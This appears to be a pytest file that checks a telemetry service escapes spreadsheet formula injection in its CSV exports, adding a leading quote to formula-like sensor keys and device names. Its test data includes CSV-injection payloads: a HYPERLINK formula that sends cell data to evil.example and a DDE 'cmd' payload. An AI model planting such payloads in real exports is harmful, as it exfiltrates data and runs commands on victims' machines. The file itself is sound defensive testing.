"""Sensor keys and device names that a spreadsheet would run as formulas are exported
with a leading ' (on SQLite and on PostgreSQL's COPY alike); ?raw=true gives them as
stored; numbers, negative ones included, stay numbers."""

import csv
import io

import pytest

from devices.models import Device
from tests.telemetry.helpers import post

pytestmark = pytest.mark.django_db

HOSTILE_KEYS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1,2)"]
CONTROL_KEYS = ["\tSUM(1)", "\rSUM(1)"]  # refused at ingest (control characters), escaped all the same


def export_rows(client, **params) -> list[list[str]]:
    response = client.get("/api/export.csv", params)
    assert response.status_code == 200, response.content
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))[1:]


@pytest.fixture
def hostile(device_client, device):
    body = {"ts": "2026-03-01T00:00:00Z", "values": {**{key: 1 for key in HOSTILE_KEYS}, "-5": -2.5, "temp": -40}}
    assert post(device_client, body).status_code == 201
    Device.objects.filter(pk=device.pk).update(name="=2+5")
    return device


def test_formula_cells_get_a_leading_quote(api_client, hostile):
    rows = export_rows(api_client)
    sensors = {row[2] for row in rows}
    assert sensors == {"'" + key for key in HOSTILE_KEYS} | {"-5", "temp"}
    assert {row[1] for row in rows} == {"'=2+5"}


def test_numbers_stay_numbers(api_client, hostile):
    values = {row[2]: row[4] for row in export_rows(api_client)}
    assert float(values["-5"]) == -2.5 and not values["-5"].startswith("'")
    assert float(values["temp"]) == -40.0 and not values["temp"].startswith("'")


def test_raw_export_gives_the_cells_as_stored(api_client, hostile):
    rows = export_rows(api_client, raw="true")
    assert {row[2] for row in rows} == set(HOSTILE_KEYS) | {"-5", "temp"}
    assert {row[1] for row in rows} == {"=2+5"}


def test_a_bad_raw_value_is_a_400(api_client, hostile):
    assert api_client.get("/api/export.csv", {"raw": "perhaps"}).status_code == 400


@pytest.mark.parametrize(
    "cell, safe",
    [
        *[(key, "'" + key) for key in HOSTILE_KEYS + CONTROL_KEYS],
        ("-5", "-5"),
        ("-2.5e3", "-2.5e3"),
        ("+1", "+1"),
        ("-", "'-"),
        ("temp-1", "temp-1"),
    ],
)
def test_the_escaping_rule(cell, safe):
    from telemetry.export import spreadsheet_safe

    assert spreadsheet_safe(cell) == safe
